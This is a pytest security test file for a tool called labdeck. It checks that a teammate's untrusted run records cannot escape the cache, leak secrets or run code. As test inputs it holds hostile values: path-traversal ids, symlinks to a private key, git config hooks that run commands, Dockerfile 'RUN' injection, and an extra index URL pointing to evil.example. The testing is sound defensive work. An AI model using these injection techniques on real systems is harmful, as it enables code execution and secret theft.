"""A teammate's records and run files are untrusted (issue 14, items 2, 3 and 6).

* Local paths derived from a record (log copy, metrics copy, TensorBoard copies) are built from a
  validated user and id and stay in the cache; a run file that is a link (to a secret of the viewer's)
  is not copied; copies are 0600.
* serve / notebook on someone else's run source none of their files and run none of their programs.
* Secrets (``--secret``, the form's Secrets field) reach the job through a 0600 file in a 0700 run
  directory; a third Unix user can read no file labdeck wrote for the run that holds the value.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import secrets as pysecrets
import shutil
import stat
import subprocess
import sys
import tempfile
import urllib.error
import urllib.request
from pathlib import Path

import pytest

from backends import jobs
from backends.config import load_config
from backends.paths import Paths
from backends.errors import LabdeckError
from backends.ids import new_id
from backends.models import Run
from backends.store import Store
from backends.workstation import Workstation

from .conftest import wait_final

REPO = Path(__file__).resolve().parent.parent


def teammate_run(ws: Workstation, tmp: Path, *, user: str = "mallory", rec_user: str | None = None,
                 run_id: str | None = None, **fields) -> tuple[Run, Path]:
    """A run record put into a teammate's store as it stands (owner field and all) and its run directory."""
    run_dir = tmp / "mallory-runs" / (run_id if run_id and "/" not in run_id else new_id())
    run_dir.mkdir(parents=True)
    run = Run(command="python train.py", instance="local", user=rec_user or user, run_dir=str(run_dir),
              state="succeeded", **fields)
    if run_id:
        run.id = run_id
    theirs = Store(ws.store.team_dir, user)
    theirs.mine.put(Run.TABLE, run.id, run.to_dict())  # as written by hand (Store.add would set the owner)
    theirs.close()
    return run, run_dir


def files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*")} if root.exists() else set()


# ---- item 2: local paths from records ----------------------------------------------------------

@pytest.mark.parametrize("bad", ["abs-user", "dotdot-id"])
async def test_a_hostile_user_or_id_writes_nothing_outside_the_cache(workstation: Workstation, tmp_path: Path,
                                                                     bad: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    if bad == "abs-user":
        run, run_dir = teammate_run(workstation, tmp_path, rec_user=str(outside / "pwn"))
    else:
        run, run_dir = teammate_run(workstation, tmp_path, run_id=f"../../../../../../../{outside.relative_to('/')}/pwn")
    (run_dir / "output.log").write_text("hello\n")
    (run_dir / "metrics.jsonl").write_text('{"step": 1, "loss": 0.5}\n')
    (run_dir / "events.out.tfevents.1").write_bytes(b"\0" * 16)
    before = files_under(outside)
    for step in (workstation.follower.catch_up, workstation.monitor.poll_run):
        try:
            await step(run)
        except LabdeckError:
            pass
    assert files_under(outside) == before, "a record steered a write outside the cache"
    with pytest.raises(LabdeckError, match="Refusing a run whose"):
        await workstation.follower.catch_up(run)
    assert not list(tmp_path.glob("**/pwn*"))


async def test_a_log_that_links_to_the_viewers_secret_is_not_copied(workstation: Workstation, tmp_path: Path) -> None:
    secret = tmp_path / "id_ed25519"
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY----- viewer-only\n")
    secret.chmod(0o600)
    run, run_dir = teammate_run(workstation, tmp_path)
    (run_dir / "output.log").symlink_to(secret)
    (run_dir / "metrics.jsonl").symlink_to(secret)
    with pytest.raises(LabdeckError, match="symbolic link"):
        await workstation.follower.catch_up(run)
    await workstation.monitor.poll_run(run)  # the metrics link is skipped, not followed
    cache = workstation.config.paths.cache_dir
    assert not any("viewer-only" in p.read_text(errors="ignore") for p in cache.rglob("*") if p.is_file())
    # a FIFO planted as the log is refused at once, not waited on
    (run_dir / "output.log").unlink()
    os.mkfifo(run_dir / "output.log")
    with pytest.raises(LabdeckError, match="not a regular file"):
        await asyncio.wait_for(workstation.follower.catch_up(run), 10)


async def test_a_teammates_log_copy_is_private_and_never_written_through_a_link(workstation: Workstation,
                                                                              tmp_path: Path) -> None:
    run, run_dir = teammate_run(workstation, tmp_path)
    (run_dir / "output.log").write_text("line one\n")
    assert await workstation.follower.catch_up(run) == 9
    local = workstation.follower.local_path(run)
    assert local.is_relative_to(workstation.config.paths.cache_dir.resolve())
    assert stat.S_IMODE(local.stat().st_mode) == 0o600
    # a link where the copy goes (planted however) is not written through
    target = tmp_path / "victim"
    target.write_text("")
    local.unlink()
    local.symlink_to(target)
    with pytest.raises(LabdeckError):
        await workstation.follower.catch_up(run)
    assert target.read_text() == ""


# ---- item 3: nothing of a teammate's runs as you -----------------------------------------------

def plant_traps(tmp_path: Path, run_dir: Path) -> tuple[Path, Path, str]:
    """env.sh that touches a marker when sourced; an 'executable' that touches another when run."""
    env_marker, exe_marker = tmp_path / "sourced-env-sh", tmp_path / "ran-their-executable"
    (run_dir / "env.sh").write_text(f"touch {env_marker}\nexport PYTHONPATH=/nonexistent\n")
    exe = tmp_path / "their-python"
    exe.write_text(f"#!/bin/sh\ntouch {exe_marker}\nexec {sys.executable} \"$@\"\n")
    exe.chmod(0o755)
    return env_marker, exe_marker, str(exe)


def http_get(url: str, key: str | None) -> int:
    req = urllib.request.Request(url, headers={"X-API-Key": key} if key else {})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code


async def test_serve_on_a_teammates_run_runs_nothing_of_theirs(workstation: Workstation, tmp_path: Path) -> None:
    pytest.importorskip("litserve")
    import numpy as np

    from backends import serving

    run, run_dir = teammate_run(workstation, tmp_path, artifacts=["model.npz"])
    env_marker, exe_marker, exe = plant_traps(tmp_path, run_dir)
    theirs = Store(workstation.store.team_dir, "mallory")
    theirs.update_run(run.id, environment={"executable": exe})
    theirs.close()
    np.savez(run_dir / "model.npz", w=np.ones(4), b=np.array(0.0))
    served = await serving.deploy(workstation, run.id, port=18431)
    dep = served.deployment
    try:
        status, body, _ = await asyncio.to_thread(serving.predict, dep.url, served.api_key, {"x": [[1, 1, 1, 1]]})
        assert status == 200 and body["label"] == [1]
        assert not env_marker.exists(), "their env.sh was sourced"
        assert not exe_marker.exists(), "their recorded executable was run"
        assert not dep.log_path.startswith(str(run_dir)), "the server wrote into their run directory"
        # item 6: the docs and schema need the key like /predict
        for path in ("/docs", "/openapi.json", "/redoc"):
            assert await asyncio.to_thread(http_get, dep.url + path, None) == 401, path
        assert await asyncio.to_thread(http_get, dep.url + "/openapi.json", served.api_key) == 200
    finally:
        await served.forward.close()
        await serving.stop(workstation, dep.id)


async def test_a_record_claiming_your_name_elsewhere_is_not_your_run(workstation: Workstation, tmp_path: Path) -> None:
    """Your own run (in your runs directory) is yours; a record with your name pointing elsewhere is not."""
    from backends.ownership import is_own_run

    run = await workstation.launch("true", workdir=str(tmp_path), sync_code=False)
    t = await workstation.transport("local")
    assert is_own_run(workstation, run, await t.runs_root())
    forged = Run.from_dict({**run.to_dict(), "run_dir": str(tmp_path)})  # a record claiming your name elsewhere
    assert not is_own_run(workstation, forged, await t.runs_root())


async def test_notebook_on_a_teammates_run_runs_nothing_of_theirs(workstation: Workstation, tmp_path: Path) -> None:
    pytest.importorskip("jupyter_server")
    from backends import notebooks

    run, run_dir = teammate_run(workstation, tmp_path, code={"subdir": "src", "files": 1})
    (run_dir / "code" / "src").mkdir(parents=True)
    (run_dir / "code" / "src" / "train.py").write_text("print('theirs')\n")
    # a module of theirs named like what Jupyter imports: `python -m jupyter_server` started in their code
    # would import it first (the working directory leads sys.path)
    shadow_marker = tmp_path / "shadowed-module-ran"
    for where in (run_dir / "code", run_dir / "code" / "src"):
        (where / "jupyter_server").mkdir()
        for f in ("__init__.py", "__main__.py"):
            (where / "jupyter_server" / f).write_text(f"open({str(shadow_marker)!r}, 'w').write('ran')\n")
    env_marker, exe_marker, exe = plant_traps(tmp_path, run_dir)
    theirs = Store(workstation.store.team_dir, "mallory")
    theirs.update_run(run.id, environment={"executable": exe}, env={"PYTHONSTARTUP": str(run_dir / "env.sh")})
    theirs.close()
    opened = await notebooks.start(workstation, run_ref=run.id, port=18931)
    nb = opened.notebook
    try:
        assert not env_marker.exists() and not exe_marker.exists()
        assert not shadow_marker.exists(), "a module in their code ran as you when Jupyter started"
        assert not nb.root_dir.startswith(str(run_dir)) and nb.root_dir.endswith("/code/src")
        assert (Path(nb.root_dir) / "train.py").read_text() == "print('theirs')\n"  # a copy of their code, yours
        assert stat.S_IMODE(Path(nb.root_dir).parent.parent.stat().st_mode) == 0o700
        job = workstation.store.find_run(nb.job_id)
        assert "PYTHONSTARTUP" not in job.env and exe not in job.command
    finally:
        await opened.forward.close()
        await notebooks.stop(workstation, nb.id)


async def test_resume_refuses_a_teammates_run(workstation: Workstation, tmp_path: Path) -> None:
    from backends import clouds

    run, _ = teammate_run(workstation, tmp_path)
    with pytest.raises(LabdeckError, match="only its owner"):
        await clouds.resume(workstation, run, "local")


# ---- item 6: secrets ----------------------------------------------------------------------------

def test_read_secrets_from_env_prompt_or_a_clear_error() -> None:
    assert jobs.read_secrets(["HF_TOKEN"], environ={"HF_TOKEN": "v"}, interactive=False) == {"HF_TOKEN": "v"}
    asked = []
    assert jobs.read_secrets(["A"], environ={}, interactive=True, prompt=lambda n: asked.append(n) or "typed") == {"A": "typed"}
    assert asked == ["A"]
    with pytest.raises(LabdeckError, match="not set in your environment"):
        jobs.read_secrets(["HF_TOKEN"], environ={}, interactive=False)
    with pytest.raises(LabdeckError, match="Invalid secret"):
        jobs.read_secrets(["BAD-NAME"], environ={"BAD-NAME": "x"}, interactive=False)


def test_the_run_form_takes_secret_names_only() -> None:
    from tui.forms import parse_secret_names

    assert parse_secret_names("HF_TOKEN, W", {"HF_TOKEN": "s1", "W": "s2"}) == {"HF_TOKEN": "s1", "W": "s2"}
    with pytest.raises(ValueError, match="names only"):
        parse_secret_names("HF_TOKEN=abc", {})
    with pytest.raises(ValueError, match="not set"):
        parse_secret_names("NOPE", {})


def test_cli_secret_reaches_the_job_and_only_its_name_is_recorded(home: Path, tmp_path: Path) -> None:
    value = "hf_" + pysecrets.token_hex(16)
    env = {**os.environ, "LABDECK_HOME": str(home), "HF_TOKEN": value}
    res = subprocess.run([sys.executable, "-m", "tui.cli", "run", "--no-sync", "--workdir", str(tmp_path),
                          "--secret", "HF_TOKEN", "--", "sh", "-c", 'printf "len=%s\\n" "${#HF_TOKEN}"'],
                         cwd=REPO, env=env, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
    assert res.returncode == 0, res.stderr
    ws = Workstation.open(str(home))
    try:
        [run] = ws.store.runs()[0]
        assert run.secrets == ["HF_TOKEN"] and "HF_TOKEN" not in run.env
        done = asyncio.run(wait_final(ws, run.id))
        assert done.state == "succeeded"
        assert f"len={len(value)}" in Path(run.run_dir, "output.log").read_text()
    finally:
        ws.store.close()
    leaks = [p for p in home.rglob("*") if p.is_file() and value.encode() in p.read_bytes()]
    assert leaks == []
    missing = subprocess.run([sys.executable, "-m", "tui.cli", "run", "--secret", "NOT_SET_ANYWHERE", "--", "true"],
                             cwd=REPO, env={k: v for k, v in env.items() if k != "NOT_SET_ANYWHERE"},
                             capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
    assert missing.returncode == 1 and "NOT_SET_ANYWHERE is not set" in missing.stderr and "Traceback" not in missing.stderr


@pytest.fixture
def third_user():
    if os.geteuid() != 0 or not shutil.which("useradd"):
        pytest.skip("needs root and useradd to create a real user")
    name = f"ldt{os.getpid() % 10000}c"
    subprocess.run(["userdel", "-f", name], capture_output=True)
    subprocess.run(["useradd", "-M", "-s", "/bin/sh", name], check=True, capture_output=True)
    try:
        yield name
    finally:
        subprocess.run(["pkill", "-KILL", "-u", name], capture_output=True)
        subprocess.run(["userdel", "-f", name], capture_output=True)
        subprocess.run(["groupdel", name], capture_output=True)


async def test_no_file_labdeck_writes_for_a_run_gives_its_secret_to_a_third_user(third_user: str, monkeypatch) -> None:
    """A shared jump host: homes are traversable (0755), the team directory 1777. The run is queued
    behind a blocker first, so its secrets file exists while the third user looks, then it runs."""
    base = Path(tempfile.mkdtemp(prefix="ldsecret-", dir="/tmp"))
    try:
        os.chmod(base, 0o755)
        (base / "team").mkdir()
        os.chmod(base / "team", 0o1777)
        monkeypatch.setenv("LABDECK_HOME", str(base / "home"))
        monkeypatch.setenv("LABDECK_TEAM_DIR", str(base / "team"))
        (base / "home").mkdir(mode=0o755)
        (base / "proj").mkdir(mode=0o755)
        ws = Workstation.open()
        value = "hf_" + pysecrets.token_hex(16)
        digest = hashlib.sha256(value.encode()).hexdigest()
        gate = base / "gate"
        blocker = await ws.launch(f"while [ ! -e {gate} ]; do sleep 0.05; done", workdir=str(base / "proj"), sync_code=False)
        run = await ws.launch(f"{sys.executable} -c \"import os,hashlib;print(hashlib.sha256(os.environ['HF_TOKEN'].encode()).hexdigest())\"",
                              workdir=str(base / "proj"), secrets={"HF_TOKEN": value})
        assert run.state == "queued"
        d = Path(run.run_dir)
        assert (d / "secrets.env").exists() and stat.S_IMODE((d / "secrets.env").stat().st_mode) == 0o600
        assert stat.S_IMODE(d.stat().st_mode) == 0o700 and stat.S_IMODE((d / "env.sh").stat().st_mode) == 0o700

        def third_sees() -> str:
            res = subprocess.run(["runuser", "-u", third_user, "--", "sh", "-c",
                                  f"find {base} -type f -readable 2>/dev/null | while read -r f; do "
                                  f"grep -l -F -e {value} \"$f\" 2>/dev/null; done; "
                                  f"cat {d}/secrets.env {d}/env.sh 2>/dev/null; true"],
                                 capture_output=True, text=True, timeout=60)
            return res.stdout

        assert value not in third_sees()
        gate.touch()
        done = await wait_final(ws, run.id)
        assert done.state == "succeeded"
        await ws.follower.catch_up(done)  # the local log copy too
        assert digest in ws.follower.local_path(done).read_text()  # the job had it
        assert not (d / "secrets.env").exists()
        assert value not in third_sees()
        # and nowhere in the store, a log or any file labdeck wrote, readable or not
        assert [p for p in base.rglob("*") if p.is_file() and value.encode() in p.read_bytes()] == []
        assert done.secrets == ["HF_TOKEN"]
        await wait_final(ws, blocker.id)
        await ws.close()
    finally:
        shutil.rmtree(base, ignore_errors=True)


async def test_a_rerun_runs_the_record_that_was_shown(workstation: Workstation, tmp_path: Path) -> None:
    """The owner changes their record between the confirmation and the launch: what runs is what was shown."""
    run, run_dir = teammate_run(workstation, tmp_path, code={"files": 1})
    (run_dir / "code").mkdir()
    (run_dir / "code" / "train.py").write_text("print('theirs')\n")
    theirs = Store(workstation.store.team_dir, "mallory")
    theirs.update_run(run.id, command="echo shown")
    shown = workstation.store.find_run(f"mallory/{run.id}")  # what the confirmation displayed
    theirs.update_run(run.id, command=f"touch {tmp_path / 'swapped-in'}")  # changed while you read it
    theirs.close()
    new = await workstation.rerun(shown)
    assert new.command == "echo shown" and new.parent == run.id
    assert await wait_final(workstation, new.id)
    assert not (tmp_path / "swapped-in").exists()


def test_cli_serve_and_notebook_on_a_teammates_run_ask_first(home: Path, tmp_path: Path) -> None:
    """No terminal and no --yes: refused after showing what would be loaded or opened; nothing starts."""
    ws = Workstation(load_config(Paths.resolve(home)))
    run, run_dir = teammate_run(ws, tmp_path, artifacts=["model.pkl"], code={"files": 1})
    ws.store.close()
    env = {**os.environ, "LABDECK_HOME": str(home)}
    for args, says in ((["serve", run.id], "runs code when it is loaded"),
                       (["notebook", "--run", run.id], "cells you run there execute it")):
        res = subprocess.run([sys.executable, "-m", "tui.cli", *args], capture_output=True, text=True, env=env,
                             stdin=subprocess.DEVNULL, timeout=60)
        assert res.returncode == 1 and "needs confirmation" in res.stderr and "--yes" in res.stderr, res.stderr
        assert "mallory's run" in res.stderr and "runs as" in res.stderr and says in " ".join(res.stderr.split())
    assert not Store(ws.config.team_dir, ws.user).mine.all("deployments")
    assert not Store(ws.config.team_dir, ws.user).mine.all("notebooks")


def test_a_teammates_git_config_runs_nothing_in_a_lineage_diff(tmp_path: Path) -> None:
    """The diff between two runs runs git in the tree their records name: that repository's config
    (an external diff, a textconv, an fsmonitor hook) must not run anything."""
    from backends.lineage import code_diff

    repo, marker = tmp_path / "repo", tmp_path / "their-program-ran"

    def g(*args: str) -> str:
        return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, text=True,
                              env={**os.environ, "GIT_AUTHOR_NAME": "m", "GIT_AUTHOR_EMAIL": "m@x",
                                   "GIT_COMMITTER_NAME": "m", "GIT_COMMITTER_EMAIL": "m@x"}).stdout.strip()

    repo.mkdir()
    g("init", "-q")
    (repo / "train.py").write_text("lr = 0.1\n")
    g("add", "train.py")
    g("commit", "-qm", "one")
    first = g("rev-parse", "HEAD")
    (repo / "train.py").write_text("lr = 0.3\n")
    g("commit", "-qam", "two")
    second = g("rev-parse", "HEAD")
    trap = f"sh -c 'touch {marker}'"
    g("config", "diff.external", trap)
    g("config", "core.fsmonitor", trap)
    g("config", "diff.evil.textconv", trap)
    (repo / ".gitattributes").write_text("*.py diff=evil\n")
    g("config", "core.pager", trap)
    a = Run(id=new_id(), user="mallory", command="x", instance="local", code={"root": str(repo), "commit": first})
    b = Run(id=new_id(), user="mallory", command="x", instance="local", code={"root": str(repo), "commit": second})
    out = code_diff(a, b, lambda user, name: None)
    assert "-lr = 0.1" in out and "+lr = 0.3" in out  # the real patch, by git itself
    assert not marker.exists(), "the repository's config ran a program"


async def test_a_teammates_copy_of_your_run_id_is_skipped(workstation: Workstation, tmp_path: Path) -> None:
    """Ids are unique across users: a teammate's record reusing one of yours is a forgery. Your run stays
    yours in every listing, lineage and lookup (by id, prefix or the short suffix labdeck prints)."""
    from backends.lineage import TeamLineage

    mine = await workstation.launch("true", workdir=str(tmp_path), sync_code=False, name="my-run")
    await wait_final(workstation, mine.id)
    forged = Run.from_dict({**mine.to_dict(), "user": "mallory", "name": "forged", "command": "echo forged"})
    theirs = Store(workstation.store.team_dir, "mallory")
    theirs.mine.put(Run.TABLE, mine.id, forged.to_dict())
    theirs.close()
    runs, errors = workstation.store.runs()
    assert [(r.user, r.name) for r in runs if r.id == mine.id] == [(workstation.user, "my-run")]
    assert "mallory" in errors and "another record has this id" in errors["mallory"]
    assert TeamLineage(workstation.store).runs[mine.id].user == workstation.user
    for ref in (mine.id, mine.id[:12], mine.id[-8:].lower()):
        assert workstation.store.find_run(ref).name == "my-run"


def test_export_puts_no_teammate_text_into_the_dockerfile_or_requirements(tmp_path: Path) -> None:
    """A record's name, artifact name and package list are text someone wrote: they cannot add a RUN
    line to the Dockerfile or an index URL to requirements.txt."""
    from backends.export import export_k8s

    run = Run(id=new_id(), user="mallory", command="x", instance="local", name="x)\nRUN touch /tmp/pwned\n# (",
              artifacts=["model.npz"],
              environment={"packages": ["numpy==1.26.4", "litserve==0.2.19\n--extra-index-url https://evil.example/simple",
                                        "--index-url=https://evil.example"]})
    export_k8s(run, tmp_path / "out", b"npz", model="model.npz")
    docker = (tmp_path / "out" / "Dockerfile").read_text()
    assert not [l for l in docker.splitlines() if "pwned" in l and not l.startswith("#")]
    assert (tmp_path / "out" / "requirements.txt").read_text().split() == ["litserve", "numpy==1.26.4"]
    with pytest.raises(LabdeckError, match="cannot go into a Dockerfile"):
        export_k8s(run, tmp_path / "out2", b"npz", model="evil\nRUN touch pwned #.npz")


async def test_a_teammate_directory_others_can_write_is_skipped(workstation: Workstation, tmp_path: Path) -> None:
    run, _ = teammate_run(workstation, tmp_path)
    d = workstation.store.team_dir / "mallory"
    assert any(r.id == run.id for r in workstation.store.runs()[0])
    d.chmod(0o777)  # anyone could now drop a journal in it that passes for mallory's
    runs, errors = workstation.store.runs()
    assert not any(r.id == run.id for r in runs) and "writable by others" in errors.get("mallory", "")


async def test_a_teammate_store_built_to_cost_memory_is_refused(workstation: Workstation, tmp_path: Path) -> None:
    """Small on disk, huge parsed: ``{},`` costs 3 bytes of file and ~100 of Python. Such a store is
    refused before parsing."""
    run, _ = teammate_run(workstation, tmp_path)
    snapshot = workstation.store.team_dir / "mallory" / "store.json"
    doc = json.loads(snapshot.read_text())
    doc["junk"] = {"1": {"a": [{}] * 400_000}}  # 1.2 MB of file
    snapshot.write_text(json.dumps(doc))
    runs, errors = workstation.store.runs()
    assert "far more JSON objects" in errors.get("mallory", "") and not any(r.id == run.id for r in runs)
